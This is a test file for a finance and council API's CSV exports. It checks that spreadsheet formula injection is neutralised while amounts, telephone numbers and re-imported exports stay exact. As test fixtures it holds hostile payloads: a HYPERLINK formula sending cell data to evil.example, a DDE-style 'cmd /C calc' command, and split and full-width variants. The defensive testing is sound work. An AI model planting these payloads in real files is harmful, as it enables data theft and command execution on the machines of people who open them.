/** Formula injection in CSV: texts stay texts in every spreadsheet, while numbers and exports stay exact. */
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeFinance } from "../../src/cli/io/write-finance.ts";
import { storedFinance } from "../../src/finance/exchange/export.ts";
import type { FinanceData } from "../../src/finance/model/model.ts";
import { spreadsheetCells } from "../../src/format/testing/spreadsheet-cells.ts";
import { councilOf, emptyCity, MONEY, party, type SmallCity } from "../support/small-city.ts";

const FORMULA = `=HYPERLINK("http://evil.example/"&A1,"click")`;
const CALL = "@SUM(1+1)*cmd|' /C calc'!A0";
/** Formulas for programs that split at semicolons, tabs and line breaks. */
const SPLIT = 'Lohn;=1+1;"@x\t＝2\r\n－3';
const EVIL: FinanceData = {
  ...MONEY,
  departemente: [{ key: "20", bezeichnung: FORMULA, kurzname: CALL }],
  institutionen: [{ key: "2000", bezeichnung: SPLIT, kurzname: "STA", departement: "20" }],
  konten: [
    { id: 1, kontoNr: "3010 00 000", bezeichnung: `+${FORMULA}`, institution: "2000" },
    { id: 2, kontoNr: "3020 00 000", bezeichnung: SPLIT, institution: "2000" },
  ],
  betraege: [
    { konto: 1, jahr: 2024, betragsTyp: "RECHNUNG", betragInRappen: -12_345, begruendung: `-2+3${CALL}` },
    { konto: 1, jahr: 2024, betragsTyp: "NACHTRAGSKREDIT24_BESCHLUSS", betragInRappen: -99, begruendung: "\t=1" },
    { konto: 2, jahr: 2024, betragsTyp: "RECHNUNG", betragInRappen: 500_000, begruendung: "＠x" },
  ],
  sachkonten: [{ sachkonto: "30", bezeichnung: FORMULA }],
};

let city: SmallCity;
beforeAll(async () => {
  city = await emptyCity();
  const parties = [
    party(1, FORMULA, CALL, false),
    party(2, "+41 44 412 31 10", "-5", false),
    party(3, "＝1", SPLIT, false),
  ];
  await city.load(EVIL, councilOf(parties));
});
afterAll(() => city.close());

async function csv(url: string): Promise<string> {
  const { statusCode, body } = await city.app.inject({ url, headers: { "api-key": "key" } });
  expect(statusCode, url).toBe(200);
  return body;
}

async function cells(url: string): Promise<string[]> {
  return (parse(await csv(url)) as string[][]).slice(1).flat();
}

const COUNCIL = "/api/partei/searchdetails?format=csv&q=";

function isFormula(cell: string): boolean {
  return /^[\t\r\n]*[=+\-@＝＋－＠]/.test(cell) && !/^[+-][\d .]+$/.test(cell);
}

describe("CSV", () => {
  it.each([
    ["/finance/v1/departemente?format=csv", FORMULA],
    ["/finance/v1/institutionen?format=csv", FORMULA],
    ["/finance/v1/konten?format=csv", `+${FORMULA}`],
    ["/finance/v1/betragsreihen?kontoId=1&jahre=alle&format=csv", `-2+3${CALL}`],
    ["/finance/v1/betragsreihen?kontoId=1&jahre=alle&format=csv", "\t'=1"],
    ["/finance/v1/betragsreihen?kontoId=2&jahre=alle&format=csv", "＠x"],
    ["/finance/v1/rechnungsbuch?jahr=2024&orgKey=2000&format=csv", `+${FORMULA}`],
    ["/finance/v1/sachkonten?format=csv", FORMULA],
    ["/finance/v1/sachkonto_codes.csv", FORMULA],
    [`${COUNCIL}seq%3E0`, CALL],
    [`${COUNCIL}seq%3E0`, "＝1"],
    ["/finanzen?format=csv", FORMULA],
  ])("%s has no cell that a spreadsheet would execute, and exact numbers", async (url, text) => {
    const found = await cells(url);
    expect(found).toContain(`'${text}`);
    expect(found.filter(isFormula)).toEqual([]);
  });

  it.each([
    "/finance/v1/konten?format=csv",
    "/finance/v1/rechnungsbuch?jahr=2024&orgKey=2000&format=csv",
    `${COUNCIL}seq%3E0`,
    "/finanzen?departement=20&format=csv",
  ])("%s has none either for a program that splits at semicolons or tabs", async (url) => {
    const body = await csv(url);
    expect(body).toContain("Lohn;");
    for (const separators of [",", ";", "\t", ",;\t"]) {
      expect(spreadsheetCells(body, separators).filter(isFormula), JSON.stringify(separators)).toEqual([]);
    }
  });

  it("has no formula in snippets either", async () => {
    const [, , , snippet] = await cells("/api/partei/search?format=csv&q=hyperlink");
    expect(snippet).toMatch(/^'=<EM>HYPERLINK/);
  });

  it("does not change amounts, telephone numbers and other formats", async () => {
    expect(await cells("/finance/v1/betragsreihen?kontoId=1&jahre=alle&format=csv")).toContain("-12345");
    expect(await cells(`${COUNCIL}seq%3E0`)).toEqual(expect.arrayContaining(["+41 44 412 31 10", "-5", `'${FORMULA}`]));
    const json = await city.app.inject({ url: "/finance/v1/departemente", headers: { "api-key": "key" } });
    expect(json.json().value[0]).toMatchObject({ bezeichnung: FORMULA, kurzname: CALL });
    const record = (await city.app.inject("/api/partei/searchdetails?format=json&q=seq%3D1")).json().hits[0].record;
    expect(record).toMatchObject({ Name: FORMULA, Kuerzel: CALL });
  });

  it("is exact in an export, which can be imported again", async () => {
    const folder = mkdtempSync(join(tmpdir(), "rathaus-export-"));
    await city.store.read(async (snapshot) => writeFinance(folder, await storedFinance(snapshot), undefined, () => {}));
    const [departments, accounts] = ["departemente.csv", "konten.csv"].map((name) =>
      parse(readFileSync(join(folder, name), "utf8"), { columns: true, recordDelimiter: "\r\n" }),
    );
    rmSync(folder, { recursive: true });
    expect(departments).toEqual([{ bezeichnung: FORMULA, key: "20", kurzname: CALL }]);
    expect(accounts[1]).toMatchObject({ bezeichnung: SPLIT });
  });
});
